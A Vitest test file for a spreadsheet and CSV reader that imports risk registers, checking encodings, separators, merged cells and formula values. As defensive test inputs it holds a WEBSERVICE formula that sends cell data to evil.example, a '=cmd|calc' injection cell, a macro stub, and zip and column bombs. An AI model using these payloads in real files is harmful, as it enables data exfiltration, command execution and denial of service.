// @vitest-environment node
import { utils, write } from '@e965/xlsx'
import ExcelJS from 'exceljs'
import { describe, expect, it } from 'vitest'
import { readValueLines, valueTextOf } from '#domain/riskImports/valueLines'
import { packedZeros, rawWorkbookOf, zipOf } from '#tests/support/zipOf'
import { readFile } from './readFile.ts'

const bytesOf = (text: string): ArrayBuffer => new TextEncoder().encode(text).buffer as ArrayBuffer

async function workbookOf(fill: (workbook: ExcelJS.Workbook) => void): Promise<ArrayBuffer> {
  const workbook = new ExcelJS.Workbook()
  fill(workbook)
  return new Uint8Array(await workbook.xlsx.writeBuffer()).buffer as ArrayBuffer
}

/** A word processor's file. */
const documentFile = zipOf([
  { name: '[Content_Types].xml', content: Buffer.from('<Types/>') },
  { name: 'word/document.xml', content: Buffer.from('<document/>') },
])

/** Some megabytes that unpack to gigabytes, with a header that claims a few bytes. */
const bomb = zipOf([
  { name: 'xl/worksheets/sheet1.xml', content: Buffer.from('<row/>'), packed: packedZeros(4 * 2 ** 30) },
])

describe('the file of a register (rule import.reading)', () => {
  it('is a workbook, of which every sheet with content is read as texts', async () => {
    const bytes = await workbookOf((workbook) => {
      workbook.addWorksheet('Cover')
      const sheet = workbook.addWorksheet('Register')
      sheet.getCell('A1').value = 'Inherent'
      sheet.mergeCells('A1:B1')
      sheet.getCell('A3').value = { formula: '2*2', result: 4 }
      sheet.getCell('C3').value = new Date('2026-05-01T00:00:00Z')
      sheet.getCell('D3').value = { text: 'Policy', hyperlink: 'https://evil.example' }
    })
    expect(await readFile({ name: 'a.xlsx', bytes })).toEqual([
      {
        name: 'Register',
        rows: [['Inherent'], [], ['4', '', '2026-05-01', 'Policy']],
        merges: [{ top: 0, left: 0, bottom: 0, right: 1 }],
      },
    ])
  })

  it('shows which cells are merged, and shows shares as shares', async () => {
    const bytes = await workbookOf((workbook) => {
      const sheet = workbook.addWorksheet('Register')
      sheet.addRows([
        ['Category', 'Done'],
        ['Fire', 0.4],
        ['', { formula: '1-0.75', result: 0.25 }],
        ['', 'later'],
      ])
      sheet.getColumn(2).numFmt = '0%'
      sheet.mergeCells('A2:A3')
    })
    expect(await readFile({ name: 'a.xlsx', bytes })).toEqual([
      {
        name: 'Register',
        rows: [
          ['Category', 'Done'],
          ['Fire', '40%'],
          ['', '25%'],
          ['', 'later'],
        ],
        merges: [{ top: 1, left: 0, bottom: 2, right: 0 }],
      },
    ])
  })

  it('is a workbook, whatever number of cells it merges', async () => {
    const bytes = await workbookOf((workbook) => {
      const sheet = workbook.addWorksheet('Register')
      sheet.addRow(['Risk', 'Cause'])
      // The library would visit each of 300 million cells.
      const last = sheet.getCell('XFD20000') as unknown as { merge: (master: ExcelJS.Cell) => void }
      last.merge(sheet.getCell('J1'))
    })
    const [sheet] = await readFile({ name: 'a.xlsx', bytes })
    expect(sheet?.rows[0]?.slice(0, 2)).toEqual(['Risk', 'Cause'])
  })

  it.each([
    ['Risk,Cause\n"A, b",c\n', [['Risk', 'Cause'], ['A, b', 'c'], ['']], ','],
    [
      '\ufeffRisk;Cause\r\nx;y',
      [
        ['Risk', 'Cause'],
        ['x', 'y'],
      ],
      ';',
    ],
    [
      'Risk\tCause\n"two\nlines"\ty',
      [
        ['Risk', 'Cause'],
        ['two\nlines', 'y'],
      ],
      '\t',
    ],
  ])('is a text file with whatever separator: %j', async (text, rows, separator) => {
    expect(await readFile({ name: 'a.csv', bytes: bytesOf(text) })).toEqual([
      { name: 'a.csv', rows, encoding: 'utf-8', separator },
    ])
  })

  it('is a text file in the Thai code page', async () => {
    const thai = Uint8Array.from([0xe0, 0xca, 0xd5, 0xe8, 0xc2, 0xa7, 0x2c, 0x31]).buffer
    expect(await readFile({ name: 'a.csv', bytes: thai })).toEqual([
      { name: 'a.csv', rows: [['เสี่ยง', '1']], encoding: 'windows-874', separator: ',' },
    ])
  })

  it.each([
    ['a picture', bytesOf('\x89PNG\0\0'), 'notRegister'],
    ['a broken archive', bytesOf('PK and nothing more'), 'notRegister'],
    ['a PDF', bytesOf('%PDF-1.7\nRisk,Cause'), 'notRegister'],
    ['a page of the web', bytesOf('<html><table><tr><td>Risk'), 'notRegister'],
    ['half of a workbook of an old Excel', Uint8Array.of(0xd0, 0xcf, 0x11, 0xe0, 0xa1).buffer, 'notRegister'],
    ['a document, which is an archive too', documentFile, 'notRegister'],
    ['a workbook that unpacks to four gigabytes', bomb, 'tooMuch'],
    ['nothing', bytesOf(''), 'empty'],
    ['a file of 100 MB', new ArrayBuffer(100 * 2 ** 20), 'tooLarge'],
  ])('is not %s', async (_, bytes, problem) => {
    await expect(readFile({ name: 'x', bytes })).rejects.toMatchObject({ problem })
  })

  it('is read as what it is, whatever it is called', async () => {
    const bytes = await workbookOf((workbook) => workbook.addWorksheet('Register').addRow(['Risk', 'Cause']))
    for (const name of ['a.csv', 'a.xlsm', 'a']) {
      expect(await readFile({ name, bytes })).toEqual([{ name: 'Register', rows: [['Risk', 'Cause']] }])
    }
    expect(await readFile({ name: 'a.xlsx', bytes: bytesOf('Risk,Cause') })).toMatchObject([
      { rows: [['Risk', 'Cause']] },
    ])
  })

  it('is read by the values of its formulas, whatever they ask for', async () => {
    const bytes = await workbookOf((workbook) => {
      workbook.addWorksheet('Register').addRows([
        ['Risk', 'Cause', 'Likelihood'],
        [
          { formula: 'WEBSERVICE("https://evil.example/?"&B2)', result: 'Pump fails' },
          { formula: '[1]Other!A1', result: { error: '#REF!' } },
          { formula: '2+2', result: 4 },
        ],
        ['=cmd|calc', { formula: 'B2' }, { sharedFormula: 'C2', result: 5 }],
      ])
    })
    const [sheet] = await readFile({ name: 'a.xlsx', bytes })
    expect(sheet?.rows.slice(1)).toEqual([
      ['Pump fails', '', '4'],
      ['=cmd|calc', '', '5'],
    ])
  })

  it('is read without the macros, links and pictures in it', async () => {
    const bytes = rawWorkbookOf([['Risk', 'Cause']], '<drawing r:id="rId9"/><legacyDrawing r:id="rId8"/>', {
      'xl/vbaProject.bin': 'Sub Auto_Open()',
      'xl/externalLinks/externalLink1.xml': '<externalLink><externalBook/></externalLink>',
      'xl/connections.xml': '<connections/>',
      'xl/media/image1.png': 'PNG',
    })
    expect(await readFile({ name: 'a.xlsm', bytes })).toEqual([{ name: 'A', rows: [['Risk', 'Cause']] }])
  })

  it.each(['xlsx', 'xlsb', 'xls', 'ods'] as const)('is a workbook of any program: %s', async (bookType) => {
    const workbook = utils.book_new()
    utils.book_append_sheet(
      workbook,
      utils.aoa_to_sheet([
        ['ความเสี่ยง', 'Likelihood'],
        ['Fire', 4],
      ]),
      'A',
    )
    const bytes = new Uint8Array(write(workbook, { bookType, type: 'array' }) as ArrayBuffer).buffer
    expect(await readFile({ name: `a.${bookType}`, bytes })).toEqual([
      {
        name: 'A',
        rows: [
          ['ความเสี่ยง', 'Likelihood'],
          ['Fire', '4'],
        ],
      },
    ])
  })

  it.each([
    [
      'windows-1252',
      [0x63, 0x61, 0x66, 0xe9, 0x20, 0x96, 0x20, 0xa3, 0x35, 0x20, 0x4d, 0xfc, 0x6c, 0x6c, 0x65, 0x72],
      'café – £5 Müller',
    ],
    ['utf-16le', [0xff, 0xfe, 0x1d, 0x0e, 0x19, 0x0e], 'ฝน'],
    ['utf-16be', [0xfe, 0xff, 0x0e, 0x1d, 0x0e, 0x19], 'ฝน'],
    ['utf-16le', [0x52, 0, 0x69, 0, 0x73, 0, 0x6b, 0], 'Risk'],
  ])('is a text file in %s', async (encoding, bytes, text) => {
    expect(await readFile({ name: 'a.csv', bytes: Uint8Array.from(bytes).buffer })).toEqual([
      { name: 'a.csv', rows: [[text]], encoding, separator: ',' },
    ])
  })

  it('is read in the encoding that somebody chose', async () => {
    const bytes = Uint8Array.from([0xe0, 0xca]).buffer
    expect(await readFile({ name: 'a.csv', bytes, encoding: 'windows-1252' })).toMatchObject([{ rows: [['àÊ']] }])
  })

  it.each([
    ['blank lines', 'Risk;Cause;Impact\n\nFire, hot, big;Sparks, wind;3\nFlood, cold, wet;Rain, snow;4', ';', 4],
    [
      'a head in another language',
      'Risiko;Ursache;Folge\nBrand, heiß, groß;Funken, Wind;3\nFlut, kalt, nass;Regen, Eis;4',
      ';',
      3,
    ],
    ['decimal commas', 'Risk;Likelihood;Impact\n\nFire;0,5;2,5\nFlood;0,1;3,5', ';', 4],
    ['a title with a comma', 'Register, plant 8\n\nRisk;Cause\nFire;Sparks, wind\nFlood;Rain, snow', ';', 5],
    ['a title with a semicolon', 'Risks; plant 8\nRisk,Cause,Impact\nFire,Sparks,3\nFlood,Rain,4', ',', 4],
    ['tabs', 'Risk\tCause, long\tImpact\n\nFire, hot\tSparks\t3', '\t', 3],
    ['bars', 'Risk|Cause|Impact\n\nFire, hot|Sparks, wind|3', '|', 3],
    ['one column', 'Risk\nFire, hot\nFlood', ',', 3],
  ])('has the separator of its head, whatever its texts contain: %s', async (_, text, separator, rows) => {
    const [sheet] = await readFile({ name: 'a.csv', bytes: bytesOf(text) })
    expect([sheet?.separator, sheet?.rows.length]).toEqual([separator, rows])
  })

  it('is read with the separator that somebody chose', async () => {
    const bytes = bytesOf('sep=;\nRisk,Cause;Impact\nFire,Sparks;3')
    const [sheet] = await readFile({ name: 'a.csv', bytes, separator: ',' })
    expect(sheet).toMatchObject({
      separator: ',',
      rows: [
        ['Risk', 'Cause;Impact'],
        ['Fire', 'Sparks;3'],
      ],
    })
  })

  it('names the line in which a quote is in the wrong place', async () => {
    const bytes = bytesOf('Risk,Cause\nFire,Heat\n"Pump" fails,Wear\nFlood,Rain')
    await expect(readFile({ name: 'a.csv', bytes })).rejects.toMatchObject({ problem: 'quotes', line: 3 })
  })

  it('is not a workbook that names a billion columns', async () => {
    const bytes = rawWorkbookOf([['Risk', 'Cause']])
    const text = '<cols><col min="1" max="1000000000" width="9"/></cols><sheetData/>'
    const sheet = `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">${text}</worksheet>`
    const bomb = rawWorkbookOf([['Risk']], '', { 'xl/worksheets/sheet1.xml': sheet })
    await expect(readFile({ name: 'a.xlsx', bytes: bomb })).rejects.toMatchObject({ problem: 'tooMuch' })
    expect(await readFile({ name: 'a.xlsx', bytes })).toHaveLength(1)
  })

  it.each([
    ['with any path', `<cols><col min="1" max="20000"/></cols><sheetData/>`],
    ['in single quotes', `<cols><col min='1' max = '20000'/></cols><sheetData/>`],
    ['without rows', `<cols><col min="1" max="20000"/></cols>`],
  ])('is not a workbook whose sheet names more columns than a sheet has, %s', async (_, text) => {
    const relationships = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
    const bytes = rawWorkbookOf([['Risk']], '', {
      'xl/_rels/workbook.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${relationships}/worksheet" Target="other/s1.xml"/></Relationships>`,
      'xl/other/s1.xml': `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">${text}</worksheet>`,
    })
    await expect(readFile({ name: 'a.xlsx', bytes })).rejects.toMatchObject({ problem: 'tooMuch' })
  })
})

describe('a workbook with values of an indicator (rule indicators.values)', () => {
  const readValues = async (fill: (sheet: ExcelJS.Worksheet) => void) => {
    const bytes = await workbookOf((workbook) => {
      workbook.addWorksheet('Notes').addRow(['Read every Friday'])
      fill(workbook.addWorksheet('Values'))
    })
    const text = valueTextOf(await readFile({ name: 'values.xlsx', bytes }))
    return readValueLines(text ?? '').map(({ line, read }) => [line, read?.on, read?.value, read?.comment])
  }
  const on = new Date('2026-05-01T00:00:00Z')

  it('has days as days and as texts of both eras, numbers as texts, and formulas with their results', async () => {
    const read = await readValues((sheet) =>
      sheet.addRows([
        ['Coal stock, 2026'],
        [],
        ['No.', 'Date', 'Tons', 'Comment'],
        [1, on, 1234.5, 'Rain\nand wind'],
        [2, '02/05/2569', '1,234,567.25'],
        [3, '3 พ.ค. 2569', '๑,๐๐๐'],
        [],
        [4, '2026-05-04', { formula: '2*21', result: 42 }],
        [5, '5/5/2026', -0.000001],
        [6, '13 May 2026', 1e21],
      ]),
    )
    expect(read).toEqual([
      [4, '2026-05-01', 1234.5, 'Rain and wind'],
      [5, '2026-05-02', 1234567.25, null],
      [6, '2026-05-03', 1000, null],
      [8, '2026-05-04', 42, null],
      [9, '2026-05-05', -0.000001, null],
      [10, '2026-05-13', 1e21, null],
    ])
  })

  it('names each line that has no day of our time or no number', async () => {
    const read = await readValues((sheet) =>
      sheet.addRows([
        ['Date', 'Value'],
        [on, { formula: '1/0', result: { error: '#DIV/0!' } }],
        ['31/02/2569', 5],
        ['', 6],
        ['1026-05-02', 7],
        ['02/05/2026', '=HYPERLINK("https://evil.example","5")'],
        ['03/05/2026', 'Infinity'],
        ['04/05/2026', '9'.repeat(400)],
        ['05/05/2026', '5 days'],
        ['06/05/2026', '0x10'],
        ['07/05/2026', 8],
      ]),
    )
    expect(read.map(([line, day]) => [line, day ?? null])).toEqual([
      [2, null],
      [3, null],
      [4, null],
      [5, null],
      [6, null],
      [7, null],
      [8, null],
      [9, null],
      [10, null],
      [11, '2026-05-07'],
    ])
  })

  it('is refused without columns of days and values, or as a bomb', async () => {
    expect(
      await readValues((sheet) =>
        sheet.addRows([
          ['Date', 'Value'],
          ['soon', 5],
        ]),
      ),
    ).toEqual([])
    await expect(readFile({ name: 'values.xlsx', bytes: bomb })).rejects.toMatchObject({ problem: 'tooMuch' })
  })
})
